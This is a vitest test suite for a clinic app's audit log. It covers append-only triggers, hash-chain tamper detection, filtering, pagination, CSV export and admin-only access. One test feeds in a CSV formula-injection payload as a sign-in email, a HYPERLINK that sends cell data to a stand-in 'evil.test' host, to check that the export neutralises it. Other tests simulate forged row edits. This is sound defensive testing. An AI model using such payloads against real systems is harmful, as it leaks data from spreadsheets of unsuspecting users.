import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import { getDb } from '@/db/client';
import { auditEvents } from '@/db/schema';
import { AppError } from '@/lib/errors';
import type { Actor } from '@/lib/dal/actor';
import { authenticate, endSession } from '@/lib/dal/auth';
import { countAuditEvents, verifyAuditChain } from '@/lib/dal/audit';
import { GENESIS_HASH, hashAuditEvent } from '@/lib/dal/audit-chain';
import { AUDIT_PAGE_SIZE, csvCell, exportAuditCsv, listAuditEvents } from '@/lib/dal/audit-log';
import { drainReadEvents } from '@/lib/dal/read-audit';
import { changeUserRole, createUser, resetUserPassword, setUserActive } from '@/lib/dal/users';
import { tableCounts, useTempDatabase } from '../setup/temp-db';
import { makeActor, TEST_PASSWORD } from '../setup/actors';

let db: ReturnType<typeof useTempDatabase>;
let admin: Actor;

beforeEach(async () => {
  db = useTempDatabase();
  admin = await makeActor('admin', 'admin@clinic.test');
});
afterEach(() => {
  db.dispose();
});

const sqlite = () => getDb().$client;
interface AuditRow {
  id: number;
  at: string;
  action: string;
  user_email: string | null;
  after_json: string | null;
  prev_hash: string;
  hash: string;
}
// Read events (views, exports) wait in the journal until a write or a drain chains them: read as the audit page does.
const rows = (): AuditRow[] => {
  drainReadEvents({ wait: true });
  return sqlite().prepare('SELECT * FROM audit_events ORDER BY id').all() as AuditRow[];
};

/** A realistic little history written through the DAL. */
async function history(): Promise<{ nurseId: number }> {
  const nurse = await createUser(admin, { email: 'nurse@clinic.test', name: 'Nina Nurse', role: 'nurse', password: TEST_PASSWORD });
  await authenticate('nurse@clinic.test', 'wrong password!!', '10.0.0.1');
  const ok = await authenticate('nurse@clinic.test', TEST_PASSWORD, '10.0.0.1');
  if (!ok.ok) throw new Error('sign-in failed');
  endSession(ok.sessionId, 'signed out');
  changeUserRole(admin, nurse.id, 'physician');
  await resetUserPassword(admin, nurse.id, 'another long passphrase');
  setUserActive(admin, nurse.id, false);
  return { nurseId: nurse.id };
}

const HISTORY_ACTIONS = [
  'user.create', // admin, by makeActor (CLI)
  'user.create',
  'signin.failure',
  'signin.success',
  'signout',
  'user.role',
  'user.password-reset',
  'user.deactivate',
];

describe('audit_events is append-only (triggers)', () => {
  it('refuses UPDATE and DELETE through raw SQL and through drizzle, leaving the rows as they were', async () => {
    await history();
    const before = rows();
    expect(before.map((r) => r.action)).toEqual(HISTORY_ACTIONS);

    expect(() => sqlite().prepare("UPDATE audit_events SET action = 'forged' WHERE id = 2").run()).toThrow(/append-only/);
    expect(() => sqlite().prepare("UPDATE audit_events SET after_json = '{}'").run()).toThrow(/append-only/);
    expect(() => sqlite().prepare('DELETE FROM audit_events WHERE id = 1').run()).toThrow(/append-only/);
    expect(() => sqlite().prepare('DELETE FROM audit_events').run()).toThrow(/append-only/);
    expect(() => getDb().update(auditEvents).set({ reason: 'tampered' }).where(eq(auditEvents.id, 3)).run()).toThrow(/append-only/);
    expect(() => getDb().delete(auditEvents).run()).toThrow(/append-only/);

    expect(rows()).toEqual(before);
    expect(verifyAuditChain(getDb())).toMatchObject({ ok: true, checked: HISTORY_ACTIONS.length });
  });

  it('an UPDATE that matches no row is still harmless, and INSERT stays allowed (appendAudit works)', async () => {
    expect(() => sqlite().prepare('UPDATE audit_events SET action = ? WHERE id = -1').run('x')).not.toThrow();
    const n = countAuditEvents(getDb());
    await makeActor('nurse');
    expect(countAuditEvents(getDb())).toBe(n + 1);
  });
});

describe('verifyAuditChain', () => {
  it('accepts a chain written by real DAL calls, linked from the genesis hash', async () => {
    await history();
    const all = rows();
    expect(all).toHaveLength(HISTORY_ACTIONS.length);
    expect(all[0]!.prev_hash).toBe(GENESIS_HASH);
    for (let i = 1; i < all.length; i++) expect(all[i]!.prev_hash).toBe(all[i - 1]!.hash);
    for (const r of all) expect(r.hash).toMatch(/^[0-9a-f]{64}$/);
    expect(new Set(all.map((r) => r.hash)).size).toBe(all.length);
    expect(verifyAuditChain(getDb())).toEqual({ ok: true, checked: HISTORY_ACTIONS.length, firstBrokenId: null, problem: null });
  });

  it('accepts a log of a single event', () => {
    // A fresh file with only the admin from beforeEach.
    expect(verifyAuditChain(getDb())).toEqual({ ok: true, checked: 1, firstBrokenId: null, problem: null });
  });

  it('hashes every field: changing any one gives another hash', () => {
    const base = {
      at: '2026-01-31T10:00:00.000Z',
      userId: 1,
      userEmail: 'a@b.c',
      role: 'admin',
      origin: 'ui',
      action: 'user.create',
      entity: 'user',
      entityId: '1',
      patientId: null,
      beforeJson: null,
      afterJson: '{"a":1}',
      reason: null,
    };
    const h = hashAuditEvent(GENESIS_HASH, base);
    expect(h).toMatch(/^[0-9a-f]{64}$/);
    expect(hashAuditEvent(GENESIS_HASH, { ...base })).toBe(h);
    expect(hashAuditEvent('1'.repeat(64), base)).not.toBe(h);
    for (const [k, v] of Object.entries({ at: 'x', userId: 2, userEmail: 'x', role: 'nurse', origin: 'cli', action: 'x', entity: 'x', entityId: '2', patientId: 7, beforeJson: '{}', afterJson: '{"a":2}', reason: 'r' })) {
      expect(hashAuditEvent(GENESIS_HASH, { ...base, [k]: v }), k).not.toBe(h);
    }
  });

  describe('an attacker with write access to the file (triggers dropped)', () => {
    const dropTriggers = () => {
      sqlite().exec('DROP TRIGGER audit_events_no_update; DROP TRIGGER audit_events_no_delete;');
    };

    it('detects a changed after_json at that row', async () => {
      await history();
      const target = rows().find((r) => r.action === 'user.role')!;
      dropTriggers();
      const forged = JSON.stringify({ email: 'nurse@clinic.test', name: 'Nina Nurse', role: 'admin', active: true });
      sqlite().prepare('UPDATE audit_events SET after_json = ? WHERE id = ?').run(forged, target.id);
      expect(rows().find((r) => r.id === target.id)!.after_json).toBe(forged);

      const report = verifyAuditChain(getDb());
      expect(report.ok).toBe(false);
      expect(report.firstBrokenId).toBe(target.id);
      expect(report.checked).toBe(target.id - 1);
      expect(report.problem).toMatch(/does not match its signature/);
    });

    it('detects a row whose hash was recomputed without the key (plain SHA-256) at that row', async () => {
      await history();
      const all = rows();
      const target = all.find((r) => r.action === 'signin.failure')!;
      dropTriggers();
      // The attacker rewrites the row and recomputes its hash the way the old unkeyed chain did: without the audit key it cannot sign.
      const raw = sqlite().prepare('SELECT * FROM audit_events WHERE id = ?').get(target.id) as Record<string, string | number | null>;
      const payload = {
        at: raw.at as string,
        userId: raw.user_id as number | null,
        userEmail: 'someone-else@clinic.test',
        role: raw.role as string | null,
        origin: raw.origin as string,
        action: raw.action as string,
        entity: raw.entity as string,
        entityId: raw.entity_id as string | null,
        patientId: raw.patient_id as number | null,
        beforeJson: raw.before_json as string | null,
        afterJson: raw.after_json as string | null,
        reason: raw.reason as string | null,
      };
      sqlite()
        .prepare('UPDATE audit_events SET user_email = ?, hash = ? WHERE id = ?')
        .run(payload.userEmail, hashAuditEvent(raw.prev_hash as string, payload), target.id);
      const report = verifyAuditChain(getDb());
      expect(report).toMatchObject({ ok: false, firstBrokenId: target.id });
      expect(report.problem).toMatch(/does not match its signature/);
    });

    it('detects a deleted row at the row after it', async () => {
      await history();
      const target = rows().find((r) => r.action === 'signout')!;
      dropTriggers();
      sqlite().prepare('DELETE FROM audit_events WHERE id = ?').run(target.id);
      const report = verifyAuditChain(getDb());
      expect(report).toMatchObject({ ok: false, firstBrokenId: target.id + 1 });
    });
  });
});

describe('listAuditEvents', () => {
  it('lists newest first and filters by action prefix and by user', async () => {
    await history();
    const all = listAuditEvents(admin, {});
    expect(all.total).toBe(HISTORY_ACTIONS.length);
    expect(all.events.map((e) => e.action)).toEqual([...HISTORY_ACTIONS].reverse());

    const signins = listAuditEvents(admin, { action: 'signin.' });
    expect(signins.events.map((e) => e.action)).toEqual(['signin.success', 'signin.failure']);
    expect(signins.total).toBe(2);

    const userEvents = listAuditEvents(admin, { action: 'user.' });
    expect(userEvents.events.map((e) => e.action)).toEqual(['user.deactivate', 'user.password-reset', 'user.role', 'user.create', 'user.create']);

    // By user: a part of the acting user's email.
    const byNurse = listAuditEvents(admin, { user: 'nurse@' });
    expect(byNurse.events.map((e) => e.action)).toEqual(['signout', 'signin.success', 'signin.failure']);
    for (const e of byNurse.events) expect(e.userEmail).toBe('nurse@clinic.test');

    const byAdmin = listAuditEvents(admin, { user: 'ADMIN@clinic' });
    expect(byAdmin.events.map((e) => e.action)).toEqual(['user.deactivate', 'user.password-reset', 'user.role', 'user.create']);

    // Both filters together.
    expect(listAuditEvents(admin, { action: 'user.role', user: 'admin' }).events.map((e) => e.action)).toEqual(['user.role']);
    expect(listAuditEvents(admin, { action: 'signin', user: 'admin' }).total).toBe(0);
  });

  it('strips LIKE wildcards from filters instead of letting them match anything', async () => {
    await history();
    expect(listAuditEvents(admin, { action: '%' }).total).toBe(HISTORY_ACTIONS.length); // stripped: no filter
    expect(listAuditEvents(admin, { action: '_ser.' }).total).toBe(0); // '_' is not a wildcard
    expect(listAuditEvents(admin, { user: 'nobody-like-this' }).total).toBe(0);
  });

  it('filters by day', async () => {
    await history();
    const first = rows()[0]!.at.slice(0, 10);
    const last = rows().at(-1)!.at.slice(0, 10);
    expect(listAuditEvents(admin, { from: first, to: last }).total).toBe(HISTORY_ACTIONS.length);
    expect(listAuditEvents(admin, { to: '2000-01-01' }).total).toBe(0);
    expect(listAuditEvents(admin, { from: '2999-01-01' }).total).toBe(0);
  });

  it('paginates 50 to a page, newest first, without overlap', async () => {
    const nurse = await makeActor('nurse', 'nurse@clinic.test');
    // 1 (admin) + 1 (nurse) + 60 role changes = 62 events.
    for (let i = 0; i < 60; i++) changeUserRole(admin, nurse.userId!, i % 2 === 0 ? 'reviewer' : 'nurse');
    expect(AUDIT_PAGE_SIZE).toBe(50);

    const p1 = listAuditEvents(admin, { page: 1 });
    const p2 = listAuditEvents(admin, { page: '2' });
    const p3 = listAuditEvents(admin, { page: 3 });
    expect(p1.total).toBe(62);
    expect(p2.total).toBe(62);
    expect(p1.events).toHaveLength(50);
    expect(p2.events).toHaveLength(12);
    expect(p3.events).toHaveLength(0);
    expect(p1.events[0]!.id).toBe(62);
    expect(p1.events[49]!.id).toBe(13);
    expect(p2.events.map((e) => e.id)).toEqual([12, 11, 10, 9, 8, 7, 6, 5, 4, 3, 2, 1]);

    // Filter and pagination combine.
    const roles2 = listAuditEvents(admin, { action: 'user.role', page: 2 });
    expect(roles2.total).toBe(60);
    expect(roles2.events).toHaveLength(10);
    expect(roles2.events.every((e) => e.action === 'user.role')).toBe(true);

    // Nonsense page numbers fall back to page 1 instead of failing.
    for (const page of ['abc', -3, 0, 1e9]) {
      const r = listAuditEvents(admin, { page });
      expect(r.filter.page).toBe(1);
      expect(r.events[0]!.id).toBe(62);
    }
  });

  it('rejects a malformed date with a field error', () => {
    let err: unknown;
    try {
      listAuditEvents(admin, { from: '31/01/2026' });
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(AppError);
    expect((err as AppError).code).toBe('invalid');
    expect(Object.keys((err as AppError).fieldErrors)).toEqual(['from']);
  });

  it('does not audit reads of the log itself', async () => {
    const n = countAuditEvents(getDb());
    listAuditEvents(admin, {});
    expect(countAuditEvents(getDb())).toBe(n);
  });
});

/** Minimal RFC 4180 parser for the test: quoted fields, doubled quotes, CRLF rows. */
function parseCsv(text: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      out.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length) throw new Error('CSV does not end with CRLF');
  return out;
}

const HEADER = 'id,at,userId,userEmail,role,origin,action,entity,entityId,patientId,reason,beforeJson,afterJson,prevHash,hash,originLabel';

describe('exportAuditCsv', () => {
  it('exports every event with a header, in id order, and audits the export', async () => {
    await history();
    const before = countAuditEvents(getDb());
    const csv = exportAuditCsv(admin, {});
    expect(csv.startsWith(`${HEADER}\r\n`)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);

    const table = parseCsv(csv);
    expect(table[0]!.join(',')).toBe(HEADER);
    const body = table.slice(1);
    expect(body).toHaveLength(before);
    for (const r of table) expect(r).toHaveLength(16);
    expect(body.map((r) => r[6])).toEqual(HISTORY_ACTIONS);
    expect(body.map((r) => Number(r[0]))).toEqual(rows().slice(0, before).map((r) => r.id));
    // JSON columns survive the round trip.
    const roleRow = body.find((r) => r[6] === 'user.role')!;
    expect(JSON.parse(roleRow[11]!)).toMatchObject({ role: 'nurse' });
    expect(JSON.parse(roleRow[12]!)).toMatchObject({ role: 'physician' });
    expect(roleRow[14]).toBe(rows().find((r) => r.action === 'user.role')!.hash);

    // The export is itself audited, once, with the filter and row count (through the read journal).
    drainReadEvents({ wait: true });
    expect(countAuditEvents(getDb())).toBe(before + 1);
    const last = rows().at(-1)!;
    expect(last).toMatchObject({ action: 'audit.export', user_email: 'admin@clinic.test' });
    expect(JSON.parse(last.after_json!)).toMatchObject({ rows: before });
    expect(verifyAuditChain(getDb()).ok).toBe(true);
  });

  it('exports only the filtered events', async () => {
    await history();
    const table = parseCsv(exportAuditCsv(admin, { action: 'signin' }));
    expect(table.slice(1).map((r) => r[6])).toEqual(['signin.failure', 'signin.success']);
    expect(JSON.parse(rows().at(-1)!.after_json!)).toMatchObject({ rows: 2, filter: { action: 'signin' } });
  });

  it('neutralises a formula and quotes commas and quotes (hostile sign-in email)', async () => {
    // Anyone can type into the sign-in form; the claimed email lands in user_email.
    const hostile = '=HYPERLINK("http://evil.test/?x="&A1,"click me")';
    expect(await authenticate(hostile, 'whatever password', '10.6.6.6')).toEqual({ ok: false, reason: 'invalid' });
    const stored = hostile.toLowerCase();
    expect(rows().at(-1)!.user_email).toBe(stored);

    const csv = exportAuditCsv(admin, { action: 'signin.failure' });
    const expectedCell = `"'${stored.replace(/"/g, '""')}"`;
    expect(expectedCell).toBe('"\'=hyperlink(""http://evil.test/?x=""&a1,""click me"")"');
    expect(csv).toContain(`,${expectedCell},`);
    const table = parseCsv(csv);
    expect(table).toHaveLength(2);
    expect(table[1]).toHaveLength(16);
    expect(table[1]![3]).toBe(`'${stored}`);
    // No cell starts with a formula character once parsed.
    for (const cell of table[1]!) expect(cell).not.toMatch(/^[=+\-@]/);
  });

  it('csvCell: quoting and formula guard', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(42)).toBe('42');
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1')).toBe("'+1");
    // A negative number is a number, not a formula (issue 20, item 7): written as it is.
    expect(csvCell('-1')).toBe('-1');
    expect(csvCell('-1+1')).toBe("'-1+1");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('=SUM(A1,"x")')).toBe('"\'=SUM(A1,""x"")"');
  });
});

describe('non-admins may not read or export the audit log', () => {
  it.each(['physician', 'nurse', 'reviewer'] as const)('a %s is forbidden and nothing is written', async (role) => {
    await history();
    const actor = await makeActor(role);
    const before = tableCounts();
    for (const fn of [() => listAuditEvents(actor, {}), () => exportAuditCsv(actor, {})]) {
      let err: unknown;
      try {
        fn();
      } catch (e) {
        err = e;
      }
      expect(err).toBeInstanceOf(AppError);
      expect((err as AppError).code).toBe('forbidden');
    }
    expect(tableCounts()).toEqual(before);
  });

  it('a deactivated admin is forbidden too', () => {
    const inactive = { ...admin, active: false };
    const before = tableCounts();
    expect(() => listAuditEvents(inactive, {})).toThrow(AppError);
    expect(() => exportAuditCsv(inactive, {})).toThrow(AppError);
    expect(tableCounts()).toEqual(before);
  });
});
